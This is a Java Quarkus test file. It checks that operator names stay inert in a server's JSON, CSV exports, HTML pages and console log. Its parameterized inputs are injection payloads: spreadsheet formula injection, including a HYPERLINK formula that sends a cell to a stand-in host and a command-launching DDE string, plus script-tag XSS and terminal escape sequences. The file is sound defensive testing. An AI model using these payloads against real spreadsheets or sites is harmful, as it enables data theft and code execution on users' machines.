package dev.vibrissa.server.api;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vibrissa.server.log.OneLine;
import io.quarkus.bootstrap.logging.InitialConfigurator;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.sql.SQLException;
import java.util.Arrays;
import java.util.List;
import javax.sql.DataSource;
import org.jboss.logmanager.handlers.ConsoleHandler;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Operators name themselves as they like: whatever that is, it is a text in JSON, CSV, pages and the log. */
@QuarkusTest
@WithTestResource(IndexedScenario.class)
class HostileNamesTest {
    private static final List<String> PLACES = List.of(
            "/v1/operators", "/v1/scores", "/v1/epochs/2/committee", "/v1/delegation/compare", "/v1/search?q=zzz");

    @Inject
    DataSource dataSource;

    private void rename(String name) throws SQLException {
        try (var db = dataSource.getConnection();
                var update = db.prepareStatement("update operator_profile set name = ?, description = ?")) {
            update.setString(1, name);
            update.setString(2, name);
            update.executeUpdate();
        }
    }

    /** As they were: other tests share the database. */
    @AfterEach
    void nameAgain() throws SQLException {
        try (var db = dataSource.getConnection();
                var update = db.prepareStatement("update operator_profile p set name = o.name, description = ''"
                        + " from operator o where o.node_id = p.node_id")) {
            update.executeUpdate();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://example.test/?\"&A1,\"zzz\")",
                "+zzz|' /C calc'!A0",
                "-zzz()",
                "@SUM(1;zzz)",
                "\t=zzz",
                "\r=zzz",
                "\n=zzz\r\n@zzz",
                "zzz\"\n=1+1,=1+1",
                "<img src=x onerror=alert(1)>zzz",
                "zzz</script><script>alert(1)</script>",
                "{frame.query}zzz",
                "\u202ezzz\u001b[2J"
            })
    void aNameIsInertWhereverItIsShown(String name) throws SQLException {
        rename(name);
        for (String place : PLACES) {
            assertThat(given().get(place).getBody().jsonPath().getString("asOf"))
                    .as(place)
                    .isNotEmpty();
            String csv = given().accept("text/csv").get(place).asString();
            for (List<String> row : CsvRows.of(csv)) {
                assertThat(row).as("cells of " + place).noneMatch(HostileNamesTest::beginsLikeFormula);
            }
        }
        assertThat(given().get("/v1/operators").jsonPath().getList("items.name"))
                .contains(name);
        for (String page : List.of("/operators", "/search?q=zzz")) {
            assertThat(given().get(page).asString()).as(page).doesNotContain("<img src=x", "<script>alert", "\u202e", "\u001b");
        }
    }

    private static boolean beginsLikeFormula(String cell) {
        return !cell.isEmpty() && "=+@\t\r\n".indexOf(cell.charAt(0)) >= 0 || cell.startsWith("-zzz(");
    }

    /** What it does is tested where it is; here, that the server's console has it. */
    @Test
    void theConsoleKeepsEventsOnTheirLines() {
        assertThat(Arrays.stream(InitialConfigurator.DELAYED_HANDLER.getHandlers())
                        .filter(ConsoleHandler.class::isInstance))
                .isNotEmpty()
                .allMatch(handler -> handler.getFilter() instanceof OneLine);
    }
}
